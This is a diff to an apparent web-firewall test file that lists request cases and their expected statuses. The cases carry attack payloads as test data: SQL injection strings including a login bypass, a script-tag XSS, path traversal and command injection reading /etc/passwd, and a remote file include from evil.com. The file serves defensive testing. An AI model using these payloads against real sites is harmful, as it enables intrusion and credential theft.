@@ -57,24 +57,26 @@ EMERGENCY_PRIORITY = 50
 # The countries that are let in.
 COUNTRIES = ["US", "CA", "GB"]
 
-# 14 request cases as (name, expected status, method, path, query as sent, header, value).
+# 14 request cases as (name, expected status, method, path, query as sent,
+# header, value, body).
 CASES = [
-    ("basic_homepage", 200, "GET", "/", "", None, None),
-    ("products_page", 200, "GET", "/", "", None, None),
-    ("login_page", 200, "GET", "/", "", None, None),
-    ("legitimate_search", 200, "GET", "/rest/products/search", "q=apple", None, None),
-    ("juice_shop_sqli", 403, "GET", "/rest/products/search", "q=%27%20OR%201=1--", None, None),
+    ("basic_homepage", 200, "GET", "/", "", None, None, None),
+    ("products_page", 200, "GET", "/", "", None, None, None),
+    ("login_page", 200, "GET", "/", "", None, None, None),
+    ("legitimate_search", 200, "GET", "/rest/products/search", "q=apple", None, None, None),
+    ("juice_shop_sqli", 403, "GET", "/rest/products/search", "q=%27%20OR%201=1--", None, None, None),
     ("classic_sqli_union", 403, "GET", "/rest/products/search",
-     "q=apple%27%20UNION%20SELECT%20*%20FROM%20users--", None, None),
+     "q=apple%27%20UNION%20SELECT%20*%20FROM%20users--", None, None, None),
     ("xss_script_tag", 403, "GET", "/rest/products/search",
-     "q=%3Cscript%3Ealert(%22xss%22)%3C/script%3E", None, None),
-    ("path_traversal", 403, "GET", "/../../etc/passwd", "", None, None),
-    ("rfi_attempt", 403, "GET", "/rest/products", "include=http://evil.com/shell.php", None, None),
-    ("command_injection", 403, "GET", "/rest/products/search", "q=apple;%20cat%20/etc/passwd", None, None),
-    ("rate_limit_test", 200, "GET", "/rest/products", "", None, None),
-    ("malicious_user_agent", 403, "GET", "/", "", "User-Agent", "sqlmap/1.0 (http://sqlmap.org)"),
-    ("large_header", 403, "GET", "/", "", "X-Large-Header", "A" * 8192),
-    ("sqli_post_body", 403, "POST", "/rest/user/login", "", "Content-Type", "application/json"),
+     "q=%3Cscript%3Ealert(%22xss%22)%3C/script%3E", None, None, None),
+    ("path_traversal", 403, "GET", "/../../etc/passwd", "", None, None, None),
+    ("rfi_attempt", 403, "GET", "/rest/products", "include=http://evil.com/shell.php", None, None, None),
+    ("command_injection", 403, "GET", "/rest/products/search", "q=apple;%20cat%20/etc/passwd", None, None, None),
+    ("rate_limit_test", 200, "GET", "/rest/products", "", None, None, None),
+    ("malicious_user_agent", 403, "GET", "/", "", "User-Agent", "sqlmap/1.0 (http://sqlmap.org)", None),
+    ("large_header", 403, "GET", "/", "", "X-Large-Header", "A" * 8192, None),
+    ("sqli_post_body", 403, "POST", "/rest/user/login", "", "Content-Type", "application/json",
+     """{"email": "admin' OR '1'='1", "password": "test"}"""),
 ]
 RATE_CASE = "rate_limit_test"
 
@@ -98,10 +100,13 @@ def uri_patterns(spark: SparkSession, patterns: Sequence[str]) -> DataFrame:
 
 
 def request_cases(spark: SparkSession) -> DataFrame:
-    """The request cases as (case_no, test_name, expected_status, method, uri, args, special)."""
+    """The request cases, one row each; ``special`` marks the rate probe."""
     rows = [
-        (no, name, status, method, uri, args, "rate_limit" if name == RATE_CASE else None)
-        for no, (name, status, method, uri, args, _, _) in enumerate(CASES)
+        (no, *case, "rate_limit" if case[0] == RATE_CASE else None)
+        for no, case in enumerate(CASES)
     ]
-    schema = "case_no int, test_name string, expected_status int, method string, uri string, args string, special string"
+    schema = (
+        "case_no int, test_name string, expected_status int, method string, uri string, args string, "
+        "header_name string, header_value string, body string, special string"
+    )
     return literal_table(spark, rows, schema)
